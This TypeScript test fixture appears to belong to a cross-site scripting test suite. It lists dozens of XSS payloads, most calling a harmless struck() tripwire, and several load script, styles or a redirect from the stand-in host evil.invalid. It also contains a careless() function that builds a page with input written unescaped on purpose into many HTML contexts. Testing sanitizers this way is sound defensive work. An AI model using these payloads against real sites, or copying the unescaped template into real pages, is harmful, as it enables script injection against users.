/**
 * Texts that become script where a page writes them out as they are. Each calls struck(), opens a
 * dialog or reaches for another host, and support/tripwire.ts notices any of these.
 */
export const payloads: readonly string[] = [
  // elements that are script, or hold one
  "<script>struck()</script>",
  "<ScRiPt >struck()</sCrIpT >",
  "<script>alert('saw')</script>",
  "<script type=module>struck()</script>",
  "<script src=data:text/javascript,struck()></script>",
  "<script src=https://evil.invalid/saw.js></script>",
  "<template shadowrootmode=open><script>struck()</script></template>",
  '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.struck()&gt;"></iframe>',
  '<iframe src="javascript:parent.struck()"></iframe>',
  '<iframe src="data:text/html,<script>struck()</script>"></iframe>',
  '<embed src="data:text/html,<script>struck()</script>">',
  // event handlers
  "<img src=x onerror=struck()>",
  '<img src=x oNeRrOr="&#115;truck()" alt="A drill">',
  "<img src=x onerror=confirm(1)>",
  '<img srcset="x 1x, y 2x" onerror=struck()>',
  "<video><source onerror=struck()></video>",
  "<audio src=x onerror=struck()></audio>",
  "<body onload=struck()>",
  "<details open ontoggle=struck()><summary>saw</summary></details>",
  "<input autofocus onfocus=struck()>",
  '<p style="animation:turn 1s" onanimationstart=struck()>saw</p>',
  // drawings and formulas
  "<svg onload=struck()>",
  "<svg/onload=struck()//",
  "<svg><script>struck()</script></svg>",
  "<svg><animate onbegin=struck() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:struck()"><text x=9 y=9>saw</text></a></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=struck()></annotation-xml></math>',
  // addresses
  "javascript:struck()",
  "JaVaScRiPt:struck()//",
  '<a href="java&Tab;script:struck()">saw</a>',
  '<form><button formaction="javascript:struck()">saw</button></form>',
  "data:text/html,<script>struck()</script>",
  "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='struck()'/>",
  // ways out of attributes, elements, comments, JSON and strings
  '"><script>struck()</script>',
  "'><script>struck()</script>",
  '" autofocus onfocus=struck() x="',
  '"></title><script>struck()</script>',
  "</textarea><img src=x onerror=struck()>",
  "</style><script>struck()</script>",
  "--><script>struck()</script><!--",
  '{"name":"</script><svg onload=struck()>"}',
  '";struck();//',
  `\${struck()}`,
  "\\u003cimg src=x onerror=struck()\\u003e",
  // letters that only look harmless, and a text that fits everywhere
  "＜img src=x onerror=struck()＞",
  "\u202e<img src=x onerror=struck()>\u2066",
  "'\"--></style></title></textarea></script><svg/onload=struck()>//",
  // style sheets and what else fetches by itself
  '<style>@import "https://evil.invalid/saw.css";</style>',
  '<p style="background:url(https://evil.invalid/saw.png)">saw</p>',
  "<link rel=stylesheet href=https://evil.invalid/saw.css>",
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/"><img src=saw.png>',
];

/** The places where careless pages write texts out: as they are, or after a second reading. */
export const careless = (text: string): string => `<!doctype html>
  <title>${text}</title><style>@keyframes turn { to { rotate: 1turn } }</style>
  <div>${text}</div><p title="${text}"></p><p title='${text}'></p><input value="${text}">
  <!-- ${text} --><textarea>${text}</textarea><style>/* ${text} */</style>
  <a href="${text}">go</a><iframe src="${text}"></iframe>
  <script type="application/json">${text}</script>
  <script>window.a = "${text}"</script><script>window.b = \`${text}\`</script>
  <script>document.body.insertAdjacentHTML("beforeend", window.a ?? "")</script>
  <div>${text.normalize("NFKC")}</div>`;
